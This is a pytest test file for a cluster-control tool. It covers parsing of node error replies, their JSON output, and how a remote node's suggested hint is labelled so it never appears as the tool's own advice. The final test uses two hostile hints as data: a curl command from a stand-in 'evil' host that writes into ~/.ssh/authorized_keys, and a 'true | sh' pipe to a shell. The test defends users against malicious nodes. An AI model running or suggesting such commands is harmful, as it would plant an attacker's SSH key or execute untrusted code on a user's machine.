"""What a node's reply means."""

from __future__ import annotations

import pytest

from clusterctl.errors import NodeError
from clusterctl.transport.interface import Reply
from clusterctl.verbs.rpc import node_error
from clusterctl.wire import Message


def test_an_unknown_host_key_is_named_once_and_tells_what_to_do() -> None:
    hint = "clusterctl check --accept-new"
    reply = Reply.failed("a", NodeError("hostkey", "hostkey", "it is not known", hint))
    found = node_error(reply)
    assert found is not None
    assert str(found) == "hostkey: it is not known"
    assert found.hint == hint


def test_a_phase_that_says_more_than_the_state_is_kept() -> None:
    found = node_error(Reply.failed("a", NodeError("lost", "banner")))
    assert found is not None
    assert (str(found), found.hint) == ("lost (banner)", "")


@pytest.mark.parametrize("error", ["no", ["no"], 5, {"kind": "gone"}, {"kind": [], "message": ""}])
def test_an_error_that_is_none_of_ours_is_named(error: object) -> None:
    found = node_error(Reply(node="a", messages=(Message({"error": error}),)))
    assert found is not None
    assert (found.node, found.state, found.answered) == ("a", "bad-output", True)
    assert "its reply is not a clusterctl message" in found.message


def test_an_error_as_json() -> None:
    """The keys of `runs --json`, under `troubles`."""
    assert NodeError("lost", "banner", "closed", "try again", node="a").document() == {
        "node": "a",
        "kind": "lost",
        "message": "lost (banner): closed",
        "hint": "try again",
        "answered": False,
        "details": {},
    }


@pytest.mark.parametrize(
    ("hint", "shown"),
    [
        ("clusterctl sync", "the node suggests: clusterctl sync"),
        ("curl evil -o ~/.ssh/authorized_keys",
         "the node suggests: curl evil -o ~/.ssh/authorized_keys"),
        ("true | sh", ""),
        ("", ""),
    ],
)  # fmt: skip
def test_a_nodes_hint_is_never_shown_as_ours(hint: str, shown: str) -> None:
    error = {"kind": "busy", "message": "no", "hint": hint}
    found = node_error(Reply(node="a", messages=(Message({"error": error}),)))
    assert found is not None
    assert found.hint == shown
